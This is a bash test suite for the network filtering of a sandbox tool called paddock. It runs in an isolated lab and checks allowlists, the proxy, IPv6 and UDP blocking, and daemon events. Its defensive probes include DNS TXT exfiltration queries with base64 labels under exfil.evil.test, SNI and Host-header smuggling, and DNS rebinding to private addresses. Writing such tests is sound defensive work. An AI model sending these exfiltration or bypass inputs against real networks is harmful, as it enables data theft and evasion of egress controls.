#!/usr/bin/env bash
# `paddock run` and named sandboxes with --network filtered (the default),
# open and off, end to end: paddock runs inside a network namespace T of its
# own and the stand-in upstreams in U (tests/lib/netlab.sh draws the map), so
# no packet reaches the host's network. The sandboxes use the default image
# (curl, openssl, perl), with the lab's CA and tools at /lab and the static
# probe at /probe.
. tests/lib/tap.sh
. tests/lib/netlab.sh
. tests/lib/daemon.sh
plan 94
LEAK_BASE0=$LEAK_BASE
cleanup() { daemon_cleanup; nl_teardown; }
trap cleanup EXIT
nl_setup || { echo "Bail out! the lab did not come up: $(cat "$NLD/servers.err" 2>/dev/null)"; exit 1; }
# From here on, T and U are the baseline; the last leak_check uses the first one.
LEAK_BASE=$(leak_state)
ok 0 "the lab is up: stand-in web, DNS and loggers in U, host services in T"

UP=$NL_UP
# ka.pl HOST PORT HOST1 HOST2: two requests on one connection, the second
# sent after the first's answer arrived (keep-alive); prints what each got
cat >"$NLD/pub/ka.pl" <<'PL'
use strict; use IO::Socket::INET;
my ($h, $p, $h1, $h2) = @ARGV;
my $s = IO::Socket::INET->new(PeerAddr => $h, PeerPort => $p, Timeout => 3) or do { print "error: $!\n"; exit 1 };
$SIG{ALRM} = sub { print "timeout\n"; exit }; alarm 5;
print $s "GET /ka1 HTTP/1.1\r\nHost: $h1\r\n\r\n";
my $r = ""; while ($r !~ /path=\/ka1\n/) { my $c; sysread($s, $c, 4096) or last; $r .= $c }
print "first: ", ($r =~ /(hello.*)/)[0] // "none", "\n";
print $s "GET /ka2 HTTP/1.1\r\nHost: $h2\r\nConnection: close\r\n\r\n";
$r = ""; while (1) { my $c; sysread($s, $c, 4096) or last; $r .= $c }
print "second: ", ($r =~ /(hello.*)/)[0] // ($r =~ /^(HTTP\S* \d+.*)/)[0] // "closed", "\n";
PL
chmod 644 "$NLD/pub/ka.pl"
LAB=(--workspace none --mount "$NLD/pub:/lab" --mount "$ROOTFS/usr/local/bin:/probe")
POL=(--allow allowed.test --allow '*.wild.test' --deny deny.wild.test --allow rebind.test
	--allow rebind10.test --allow gwself.test)
# sb [PADDOCK-RUN-ARGS] -- SCRIPT: run SCRIPT with sh in a filtered sandbox in
# T; stdout and stderr of the sandbox go to stdout, paddock's own messages too.
# $GW inside is the gateway (the resolver in /etc/resolv.conf).
sb() {
	local args=()
	while [ "$1" != -- ]; do args+=("$1"); shift; done
	shift
	tpd run "${LAB[@]}" "${args[@]}" -- sh -c 'GW=$(awk "/^nameserver/ {print \$2; exit}" /etc/resolv.conf); '"$1" 2>&1 </dev/null
}
filt() { sb "${POL[@]}" -- "$1"; }
hello() { echo "hello from upstream host=$1 path=$2"; }

# ---- what a filtered sandbox is given ------------------------------------------------
check "(control) T reaches U's TCP 8080 directly: only paddock's rules can stop a sandbox" \
	inT bash -c "echo >/dev/tcp/$UP/8080"
: >"$NLD/saw.U"
out=$(filt 'cat /proc/net/dev | awk "NR > 2 { sub(\":\", \"\", \$1); print \$1 }" | sort | tr "\n" " "
	echo; cat /etc/resolv.conf | grep -c "^nameserver $GW\$"; echo "$HTTPS_PROXY $http_proxy"
	awk "\$1 == \"00000000\" {print \"default via\", \$3}" /proc/net/route')
expect "interfaces inside: eth0 and lo" "eth0 lo " "$(echo "$out" | sed -n 1p)"
expect "resolv.conf names only the gateway" 1 "$(echo "$out" | sed -n 2p)"
gw=$(echo "$out" | sed -n 3p | sed -E 's|^http://([0-9.]+):3128 .*|\1|')
check "the proxy variables point at the gateway's port 3128 ($gw)" \
	test "$(echo "$out" | sed -n 3p)" = "http://$gw:3128 http://$gw:3128"
check "the gateway is in paddock's range 10.231.0.0/16" bash -c "[[ $gw == 10.231.* ]]"

# ---- allowed names -------------------------------------------------------------------------
out=$(filt 'curl -sS -m 5 --cacert /lab/ca.pem https://allowed.test/connect')
contains "allowed name over CONNECT (HTTPS_PROXY)" "$(hello allowed.test /connect)" "$out"
out=$(filt 'curl -sS -m 5 http://allowed.test/forward')
contains "allowed name over the explicit proxy (HTTP_PROXY, plain HTTP)" "$(hello allowed.test /forward)" "$out"
out=$(filt 'curl -sS -m 5 --noproxy "*" http://allowed.test/t80')
contains "allowed name over transparent 80 (no proxy variables used)" "$(hello allowed.test /t80)" "$out"
out=$(filt 'curl -sS -m 5 --noproxy "*" --cacert /lab/ca.pem https://allowed.test/t443')
contains "allowed name over transparent 443 (TLS end to end, test CA inside)" "$(hello allowed.test /t443)" "$out"
out=$(filt 'curl -sS -m 5 --cacert /lab/ca.pem https://x.wild.test/w')
contains "a name under an allowed *.wild.test" "$(hello x.wild.test /w)" "$out"
out=$(filt 'getent hosts allowed.test; echo rc=$?')
expect "allowed name resolves through the gateway" "$UP allowed.test rc=0" "$(echo $out)"
out=$(filt 'perl /lab/dnsq.pl $GW allowed.test A tcp')
expect "allowed name resolves over DNS/TCP too" "rcode=0 answers=$UP" "$out"
out=$(tpd run "${LAB[@]}" "${POL[@]}" -- sh -c 'getent hosts allowed.test && curl -sS -m 5 http://allowed.test/quiet' 2>&1 >/dev/null </dev/null)
expect "a run that only uses allowed names prints nothing on stderr" "" "$out"
: >"$NLD/saw.U"

# ---- denied names --------------------------------------------------------------------------
out=$(sb "${POL[@]}" -- 'getent hosts evil.test; echo rc=$?; perl /lab/dnsq.pl $GW evil.test A' 2>/dev/null)
expect "denied name: DNS says NXDOMAIN (getent exit 2)" "rc=2
rcode=3 answers=" "$(echo "$out" | grep -E '^(rc|rcode)=')"
out=$(filt 'perl /lab/dnsq.pl $GW deny.wild.test A')
contains "deny wins over a matching *.wild.test: NXDOMAIN" "rcode=3 answers=" "$out"
out=$(filt 'perl /lab/raw.pl $GW 3128 "CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n"')
contains "denied name by CONNECT: 403" "HTTP/1.1 403 Forbidden" "$out"
contains "... whose body names the host and how to allow it" \
	"evil.test is not in this sandbox's allowlist; add it with" "$out"
out=$(filt 'curl -sS -m 5 --cacert /lab/ca.pem https://evil.test/; echo rc=$?')
contains "curl through HTTPS_PROXY to a denied name: CONNECT refused with 403" "CONNECT tunnel failed, response 403" "$out"
out=$(filt 'curl -sS -m 5 --noproxy "*" --resolve evil.test:443:'$UP' --cacert /lab/ca.pem https://evil.test/sni; echo rc=$?')
not_contains "denied name by SNI (transparent 443, address forged with --resolve): no answer" "hello from upstream" "$out"
contains "... and curl fails" "rc=" "$(echo "$out" | grep -v 'rc=0')"
out=$(filt 'curl -sS -m 5 --noproxy "*" --resolve evil.test:80:'$UP' http://evil.test/host; echo rc=$?')
not_contains "denied name by Host (transparent 80): no answer from upstream" "hello from upstream" "$out"
out=$(filt 'curl -sS -m 5 --noproxy "*" --resolve allowed.test:80:'$UP' -H "Host: evil.test" http://allowed.test/hosthdr')
not_contains "transparent 80: decided by the Host header, not the address dialled" "hello from upstream" "$out"
out=$(filt 'openssl s_client -proxy $GW:3128 -connect allowed.test:443 -servername evil.test -CAfile /lab/ca.pem </dev/null 2>&1')
not_contains "CONNECT allowed.test with SNI evil.test: no TLS session" "BEGIN CERTIFICATE" "$out"
out=$(filt 'openssl s_client -proxy $GW:3128 -connect allowed.test:443 -servername allowed.test -CAfile /lab/ca.pem </dev/null 2>&1')
contains "(control) CONNECT allowed.test with SNI allowed.test completes TLS" "BEGIN CERTIFICATE" "$out"
# one connection, two requests: the Host of every request decides, not the first one's
out=$(filt 'perl /lab/ka.pl '$UP' 80 allowed.test evil.test')
contains "(control) transparent 80 keep-alive: the first request, for allowed.test, is answered" \
	"first: $(hello allowed.test /ka1)" "$out"
not_contains "transparent 80 keep-alive: a second request on the same connection with Host: evil.test gets no answer" \
	"second: hello from upstream" "$out"
out=$(filt 'perl /lab/raw.pl $GW 80 "GET /dup HTTP/1.1\r\nHost: allowed.test\r\nHost: evil.test\r\nConnection: close\r\n\r\n"
	perl /lab/raw.pl $GW 80 "GET http://evil.test/abs HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n"
	perl /lab/raw.pl $GW 3128 "GET http://allowed.test@evil.test/ui HTTP/1.1\r\nHost: evil.test\r\n\r\n"')
not_contains "transparent 80: two Host headers, or an absolute URI naming another host, or userinfo in a proxy URI: refused" \
	"hello from upstream" "$out"
sleep 0.2
not_contains "none of the denied requests reached the upstream web server" "evil.test" "$(cat "$NLD/saw.U")"
out=$(tpd run "${LAB[@]}" "${POL[@]}" -- sh -c 'getent hosts evil.test; curl -sS -m 5 http://evil.test/ >/dev/null 2>&1; exit 0' 2>&1 >/dev/null </dev/null)
contains "paddock run names the blocked host on stderr, and how to allow it" \
	"paddock: network: blocked evil.test: not in the allowlist (add --allow evil.test" "$out"
not_contains "... and does not call an allowed name blocked" "blocked allowed.test" "$out"

# ---- addresses instead of names -----------------------------------------------------------------
out=$(filt 'perl /lab/raw.pl $GW 3128 "CONNECT '$UP':443 HTTP/1.1\r\nHost: '$UP':443\r\n\r\n"')
contains "CONNECT to a raw IP is refused (403, filtered mode)" "HTTP/1.1 403" "$out"
out=$(filt 'curl -sS -m 5 --noproxy "*" http://'$UP'/rawip; echo rc=$?')
not_contains "transparent 80 with Host: <IP> is refused" "hello from upstream" "$out"
out=$(filt '/probe/probe connect '$UP' 8080')
contains "direct TCP to $UP:8080, bypassing the proxy, gets nowhere" "blocked: " "$out"
out=$(filt '/probe/probe connect '$UP' 22')
contains "direct TCP to $UP:22 gets nowhere" "blocked: " "$out"
sleep 0.2
expect "U's TCP 8080 logger saw no connection" "" "$(nl_saw u8080)"

# ---- UDP and IPv6 -------------------------------------------------------------------------------
out=$(filt '/probe/probe udp_send '$UP' 9999; /probe/probe udp_send $GW 5353; /probe/probe udp_send 198.51.100.1 5353')
expect "UDP to U, to the gateway's 5353 and to T's own address: no answer" \
	"3" "$(echo "$out" | grep -c '^blocked')"
sleep 0.2
expect "... and no datagram arrived at either logger" "" "$(nl_saw u9999; nl_saw t5353)"
out=$(filt 'cat /proc/net/if_inet6 2>/dev/null | wc -l; cat /proc/sys/net/ipv6/conf/eth0/disable_ipv6')
expect "IPv6: no IPv6 address inside, and IPv6 disabled on eth0" "0
1" "$out"
out=$(filt 'awk "\$10 != \"lo\" && \$1 != \"00000000000000000000000000000000\" || \$10 == \"eth0\"" /proc/net/ipv6_route 2>/dev/null | wc -l')
expect "IPv6: no route but the kernel's own on lo" 0 "$out"
out=$(filt '/probe/probe connect 2001:db8::1 443')
contains "IPv6: connect to [2001:db8::1]:443 fails" "blocked: E" "$out"
out=$(filt 'perl /lab/dnsq.pl $GW allowed.test AAAA')
expect "IPv6: AAAA for an allowed name has no answer" "rcode=0 answers=" "$(echo "$out" | sed 's/rcode=3/rcode=0/')"

# ---- DNS rebinding and exfiltration -----------------------------------------------------------------
out=$(filt 'perl /lab/dnsq.pl $GW rebind.test A; perl /lab/dnsq.pl $GW rebind10.test A; perl /lab/dnsq.pl $GW gwself.test A' | grep -E '^(rcode|error)')
expect "DNS rebinding: allowed names resolving to 127.0.0.1, 10.0.0.5 and the host's own address are REFUSED" \
	"rcode=5 answers=
rcode=5 answers=
rcode=5 answers=" "$out"
out=$(filt 'curl -sS -m 5 http://rebind.test/; curl -sS -m 5 http://rebind10.test/; curl -sS -m 5 --noproxy "*" http://rebind.test/')
not_contains "nothing answers for rebinding names, by the proxy or transparently" "HOSTSERVICE" "$out"
expect "... and T's host service on port 80 saw nothing" "" "$(nl_saw t80)"
out=$(filt 'perl /lab/raw.pl $GW 3128 "CONNECT rebind10.test:80 HTTP/1.1\r\nHost: rebind10.test\r\n\r\n"')
contains "CONNECT to a name resolving to 10.0.0.5: 403 saying why" "10.0.0.5 (private" "$out"
out=$(filt 'perl /lab/dnsq.pl $GW c2VjcmV0LWRhdGE.exfil.evil.test TXT; perl /lab/dnsq.pl $GW c2VjcmV0.allowed.test TXT
	perl /lab/dnsq.pl $GW allowed.test TXT; perl /lab/dnsq.pl $GW c2VjcmV0.x.wild.test TXT' | grep -E '^(rcode|error)')
expect "TXT: NXDOMAIN for names outside the allowlist, NOTIMP (not served) for allowed ones" "rcode=3 answers=
rcode=3 answers=
rcode=4 answers=
rcode=4 answers=" "$out"
sleep 0.2
q=$(nl_dns_queries)
contains "(control) the upstream dnsmasq logs the queries it gets" "query[a] allowed.test" "$q"
not_contains "no TXT query ever reached the upstream" "query[txt]" "$q"
not_contains "the exfiltration labels never reached the upstream" "c2vjcmv0" "$q"
not_contains "no query for a denied name reached the upstream" "evil.test" "$q"
expect "no packet from a sandbox address reached U, was routed by T, or reached T past the gateway's ports" \
	0 "$(nl_stray)"
nl_clean "after the filtered runs"

# ---- paddock.yaml network: ----------------------------------------------------------------------------
printf 'network:\n  mode: filtered\n  allow: [allowed.test, later.test]\n  deny: [later.test]\n' >"$NLD/pub/paddock.yaml"
out=$(sb -f "$NLD/pub/paddock.yaml" -- 'curl -sS -m 5 http://allowed.test/yaml; curl -sS -m 5 http://later.test/yaml')
contains "paddock.yaml network.allow lets allowed.test through" "$(hello allowed.test /yaml)" "$out"
not_contains "paddock.yaml network.deny wins for later.test" "$(hello later.test /yaml)" "$out"
out=$(sb -f "$NLD/pub/paddock.yaml" --allow evil.test -- 'curl -sS -m 5 http://evil.test/flag')
contains "--allow adds to the spec's list" "$(hello evil.test /flag)" "$out"
printf 'network:\n  mode: off\n' >"$NLD/pub/off.yaml"
out=$(sb -f "$NLD/pub/off.yaml" -- 'cat /proc/net/dev | awk "NR > 2" | wc -l')
expect "paddock.yaml network.mode: off gives only lo" 1 "$out"

# ---- --network open ------------------------------------------------------------------------------------
OPEN=(--network open --deny evil.test)
out=$(sb "${OPEN[@]}" -- 'curl -sS -m 5 http://open.test/o; curl -sS -m 5 --noproxy "*" --cacert /lab/ca.pem https://open.test/o443')
contains "open: a name in no allowlist works (proxy)" "$(hello open.test /o)" "$out"
contains "open: ... and over transparent 443" "$(hello open.test /o443)" "$out"
out=$(sb "${OPEN[@]}" -- 'curl -sS -m 5 http://'$UP'/rawip-proxy; curl -sS -m 5 --noproxy "*" http://'$UP'/rawip-t80')
contains "open: a public address without a name works through the proxy" "$(hello $UP /rawip-proxy)" "$out"
contains "open: ... and transparently" "$(hello $UP /rawip-t80)" "$out"
out=$(sb "${OPEN[@]}" -- 'curl -sS -m 5 http://evil.test/; echo; getent hosts evil.test; echo rc=$?')
contains "open: --deny still refuses a name (403 body)" "evil.test" "$(echo "$out" | grep -i -e deny -e forbidden)"
contains "open: ... and its DNS" "rc=2" "$out"
out=$(sb "${OPEN[@]}" -- 'perl /lab/dnsq.pl $GW rebind.test A; perl /lab/dnsq.pl $GW rebind10.test A' | grep -E '^(rcode|error)')
expect "open: DNS rebinding to 127.0.0.1 and 10.0.0.5 still REFUSED" "rcode=5 answers=
rcode=5 answers=" "$out"
out=$(sb "${OPEN[@]}" -- 'for t in 10.0.0.5:80 127.0.0.1:80 198.51.100.1:22 $GW:22; do
	perl /lab/raw.pl $GW 3128 "CONNECT $t HTTP/1.1\r\nHost: $t\r\n\r\n" | head -n1; done')
expect "open: CONNECT to private, loopback, the host's and the gateway's addresses: 4 refusals" 4 \
	"$(echo "$out" | grep -c '^HTTP/1.1 403')"
out=$(sb "${OPEN[@]}" -- 'curl -sS -m 5 http://rebind10.test/; perl /lab/raw.pl $GW 3128 "CONNECT sbnet.test:80 HTTP/1.1\r\n\r\n" | head -n1')
not_contains "open: a name resolving to private space is refused through the proxy" "HOSTSERVICE" "$out"
out=$(sb "${OPEN[@]}" -- '/probe/probe connect '$UP' 8080; /probe/probe udp_send '$UP' 9999')
expect "open: direct TCP and UDP to U still get nowhere" 2 "$(echo "$out" | grep -c '^blocked')"
sleep 0.2
expect "... and U's loggers and T's services saw nothing" "" "$(nl_saw u8080; nl_saw u9999; nl_saw t22; nl_saw t80)"
expect "open: no stray packet from a sandbox address (nft counters in U and T)" 0 "$(nl_stray)"
nl_clean "after the open runs"

# ---- --network off -----------------------------------------------------------------------------------------
out=$(sb --network off -- 'cat /proc/net/dev | awk "NR > 2 { sub(\":\", \"\", \$1); print \$1 }"; echo "[$HTTPS_PROXY]"; grep -c "^nameserver 10.231" /etc/resolv.conf')
expect "off: only lo, no proxy variables, resolv.conf not the gateway's" "lo
[]
0" "$out"
out=$(sb --network off -- 'curl -sS -m 3 --noproxy "*" http://'$UP'/ 2>&1; /probe/probe connect '$UP' 80')
contains "off: U is unreachable" "blocked: ENETUNREACH" "$out"
nl_clean "after the off runs"

# ---- named sandboxes through paddockd (in T) ------------------------------------------------------------------
# daemon_start of tests/lib/daemon.sh, with paddockd in T and the lab's DNS upstream
printf '#!/bin/sh\nPADDOCK_DNS_UPSTREAM=%s exec nsenter --net=/run/netns/%s %s "$@"\n' "$UP" "$NL_T" "$PADDOCKD" \
	>"$DT/paddockd-in-T"
chmod 755 "$DT/paddockd-in-T"
PADDOCKD_REAL=$PADDOCKD PADDOCKD=$DT/paddockd-in-T
daemon_start
PADDOCKD=$PADDOCKD_REAL
check "paddockd is up in T" bash -c "[ \"$(readlink /proc/$DPID/ns/net)\" = \"$(inT readlink /proc/self/ns/net)\" ] && \"$PADDOCK_BIN\" daemon-status"
A=${SBP}net
ex() { pd exec "$A" -- sh -c "$1" 2>&1 </dev/null; }
out=$(pd up "$A" "${LAB[@]}" --allow allowed.test 2>&1)
expect "up a named filtered sandbox" "$A" "$out"
out=$(ex 'curl -sS -m 5 http://allowed.test/named; curl -sS -m 5 --cacert /lab/ca.pem https://later.test/; echo rc=$?')
contains "named: the allowed name works" "$(hello allowed.test /named)" "$out"
contains "named: later.test is refused before paddock allow" "response 403" "$out"
out=$(pd allow "$A" later.test 2>&1)
expect "paddock allow exits 0" 0 $?
out=$(ex 'curl -sS -m 5 --cacert /lab/ca.pem https://later.test/live; getent hosts later.test')
contains "named: after paddock allow, later.test works without a restart" "$(hello later.test /live)" "$out"
contains "named: ... and resolves" "$UP later.test" "$(echo $out)"
out=$(pd allow "$A" --deny allowed.test 2>&1)
out=$(ex 'curl -sS -m 5 http://allowed.test/after-deny; getent hosts allowed.test; echo rc=$?')
not_contains "named: paddock allow --deny takes effect at once" "$(hello allowed.test /after-deny)" "$out"
contains "named: ... DNS too" "rc=2" "$out"
js=$(pd net "$A" --json 2>&1)
expect "paddock net --json: mode, lists, interface and gateway" \
	"filtered allowed.test,later.test allowed.test True True" \
	"$(echo "$js" | jq_py "' '.join([j['mode'], ','.join(sorted(j['allow'])), ','.join(j['deny']), str(j['interface'].startswith('pd')), str(j['gateway'].startswith('10.231.'))])" 2>&1)"
ev=$(pd events --sandbox "$A" --json 2>&1)
has_event() { echo "$ev" | python3 -c "
import json, sys
want = json.loads(sys.argv[1])
for l in sys.stdin:
    e = json.loads(l)
    d = dict(e.get('detail') or {}, kind=e.get('kind'))
    if all(d.get(k) == v for k, v in want.items()):
        sys.exit(0)
sys.exit(1)" "$1"; }
check "events: dns allow of later.test (allowlist) with its answer" \
	has_event '{"kind":"dns","name":"later.test","qtype":"A","verdict":"allow","reason":"allowlist","answer":["'$UP'"]}'
check "events: dns deny of allowed.test once denied (denylist)" \
	has_event '{"kind":"dns","name":"allowed.test","verdict":"deny","reason":"denylist"}'
check "events: connect allow with address and port" \
	has_event '{"kind":"connect","name":"allowed.test","addr":"'$UP'","port":80,"verdict":"allow","reason":"allowlist"}'
check "events: connect deny with its reason" \
	has_event '{"kind":"connect","name":"later.test","port":443,"verdict":"deny","reason":"not in allowlist"}'
check "events: the policy change is recorded" has_event '{"kind":"policy-allow","hosts":["later.test"]}'
out=$(ex 'cat /proc/net/dev | awk "NR > 2" | wc -l')
expect "named: eth0 and lo inside" 2 "$out"
out=$(pd down "$A" 2>&1)
expect "down the named sandbox" 0 $?
no_leftovers "nothing of the named sandbox is left (cgroups, directories, processes)"
NL_GATEWAY_STAYS=1 nl_clean "after paddock down (but the daemon's gateway)"
daemon_stop
nl_clean "after paddockd stopped (its gateway is gone)"

# ---- teardown ------------------------------------------------------------------------------------------------------
cleanup
trap - EXIT
LEAK_BASE=$LEAK_BASE0
leak_check "after the network sandbox tests (lab removed)"
finish
